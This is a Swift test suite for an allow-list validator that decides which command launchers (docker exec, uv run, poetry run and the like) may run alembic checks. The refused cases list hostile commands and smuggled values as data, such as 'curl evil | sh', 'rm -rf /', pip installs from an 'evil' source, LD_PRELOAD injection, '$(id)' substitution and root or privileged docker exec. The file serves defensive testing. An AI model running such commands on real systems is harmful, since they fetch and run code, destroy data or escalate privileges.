import Catalog
import Machine
import Testing

@testable import Probes

@Suite struct TrustedLauncherTests {
    @Test(
        "launchers that end in the program itself are trusted",
        arguments: [
            "", "docker compose exec portal", "docker compose exec -T portal",
            "docker compose exec -T portal uv run", "docker-compose exec -T portal",
            "docker compose -f compose.prod.yaml -f ./deploy/x.yaml -p stage exec -T portal",
            "docker compose --file=compose.yaml --profile web exec portal",
            "docker compose exec -T -w /app/backend --index 2 portal", "docker exec portal-1",
            "docker compose exec --workdir=/app --index=1 --no-TTY portal python -m",
            "docker exec -it -w /app my_box.1 python3 -m", "uv run", "uv run --frozen --no-sync",
            "uv run python -m", "poetry run", "pdm run", "pipenv run", "hatch run", "python -m",
            "python3 -m", "docker compose exec -T backend /app/.venv/bin/python -m",
            "docker exec box /usr/bin/python3 -m", "docker compose exec portal poetry run",
        ])
    func trusted(via: String) {
        #expect(TrustedLauncher.isTrusted(ShellWords.split(via)))
    }

    @Test(
        "whatever else could be run, read or changed is not",
        arguments: [
            // Other programs, in front, between and behind.
            "sh -c 'curl evil | sh' --", "bash -c id", "env", "env PATH=/tmp", "sudo", "xargs",
            "sudo docker exec portal", "nice", "curl http://evil", "./uv run", "/tmp/docker exec x",
            "rm -rf", "docker compose exec portal sh -c id", "docker exec portal env",
            "docker compose exec portal rm -rf /", "uv run sh -c", "poetry run bash",
            "docker compose exec portal docker exec other", "uv run uv run", "python -m pip",
            "python -m pip install evil", "python -m http.server", "python", "python -c x -m",
            "python -Wignore -m", "python2 -m", "perl -m", "/tmp/python -m", "./python -m",
            ".venv/bin/python -m", "docker exec box ./python -m", "docker exec box python/../sh -m",
            "docker exec box /bin/sh -m", "docker exec box /tmp/notpython -m",
            // Other commands of the same programs.
            "docker run -v /:/x alpine", "docker compose run portal", "docker compose up",
            "docker compose", "docker", "docker exec", "docker compose exec", "docker compose down",
            "docker-compose run portal", "docker system prune -f", "docker compose exec -T",
            "uv", "uv tool run", "uv pip install", "poetry", "poetry add", "pdm add x", "hatch env",
            // Options with which one of them would.
            "uv run --with evil", "uv run --with=evil", "uv run --directory /tmp/evil",
            "uv run --directory=/tmp/evil", "uv run --project /tmp/evil", "uv run --python /tmp/x",
            "uv run -p /tmp/x", "uv run --env-file /tmp/x", "uv run --index http://evil",
            "uv run --script", "uv run -m pip", "uv --directory /tmp/evil run", "uvx",
            "poetry -C /tmp/evil run", "poetry run --directory /tmp", "hatch -e evil run",
            "pdm run -p /tmp/evil", "pdm -p /tmp/evil run", "pipenv --python x run",
            "docker -H tcp://evil exec box", "docker -H ssh://evil exec box",
            "docker --context evil exec box", "docker --config /tmp exec box",
            "docker compose --project-directory /tmp/evil exec x",
            "docker compose --env-file /tmp/evil exec x", "docker compose --dry-run exec x",
            "docker compose -f https://evil/compose.git exec x", "docker compose -f - exec x",
            "docker compose -f oci://evil/x exec x", "docker compose -f git@evil:x exec x",
            "docker compose -f github.com/evil/x exec x", "docker compose -f",
            "docker compose exec -e PATH=/tmp/evil portal", "docker exec --env LD_PRELOAD=x box",
            "docker exec --env-file /tmp/x box", "docker exec -u root box", "docker exec -u0 box",
            "docker compose exec --user root portal", "docker exec --privileged box",
            "docker compose exec -d portal", "docker exec --detach-keys x box",
            "docker exec -- box",
            // Values that smuggle.
            "docker compose exec -w --privileged portal", "docker exec -w '/app;id' box",
            "docker exec -w", "docker compose exec --index", "docker compose exec --index=-1 x",
            "docker exec --workdir= box", "docker compose exec -p portal",
            "docker exec '--privileged'",
            "docker exec 'my box'", "docker exec ''", "docker exec '$(id)'", "docker exec ../x",
            "docker compose exec -w=/app portal", "docker compose exec -Tw /app portal",
            "'docker compose exec portal'", "'' uv run", "docker exec -w /app", "docker exec -it",
        ])
    func refused(via: String) {
        #expect(!TrustedLauncher.isTrusted(ShellWords.split(via)))
    }

    private func check(allowsExecution: Bool) -> (LineCheck, FakeCommandRunner) {
        let commands = FakeCommandRunner([
            "sh": .output("c7d9 (head)\n"), "alembic": .output("c7d9 (head)\n"),
        ])
        var check = LineCheck(
            .fake(
                commands: commands,
                files: FakeFileSystem([
                    "/srv/alembic.ini": .text("[alembic]\nscript_location = m\n"),
                    "/srv/m/versions/1.py": .text("revision = 'c7d9'\ndown_revision = None\n"),
                ])))
        check.context.allowsExecution = allowsExecution
        return (check, commands)
    }

    private static let line = "alembic . via=\"sh -c 'id; alembic current'\" current=head"

    @Test("a runbook's own via is not run, and says what would be")
    func refusal() async throws {
        let (check, commands) = check(allowsExecution: false)
        let result = try await check.result(Self.line)
        #expect(result.outcome == .unknown)
        #expect(result.observed == "via= runs `sh -c id; alembic current`: give --allow-exec")
        #expect(commands.commands.isEmpty)
        // Nothing is run for the scripts, so they are still read.
        #expect(try await check.result(Self.line + " heads=1").observed.contains("--allow-exec"))
        let heads = try await check.result("alembic . via=\"sh -c id\" heads=1")
        #expect(heads.outcome == .pass)
    }

    @Test("with --allow-exec it is")
    func allowed() async throws {
        let (check, commands) = check(allowsExecution: true)
        #expect(try await check.result(Self.line).outcome == .pass)
        #expect(commands.commands.map(\.program) == ["sh"])
    }

    @Test("a variable's value is judged as it is run")
    func variable() async throws {
        let (check, commands) = check(allowsExecution: false)
        let line = "alembic . via=\"${VIA}\" current=head"
        let evil = try await check.result(line, variables: ["VIA": "sh -c id"])
        #expect(evil.outcome == .unknown)
        #expect(commands.commands.isEmpty)
        #expect(try await check.result(line, variables: ["VIA": ""]).outcome == .pass)
    }
}
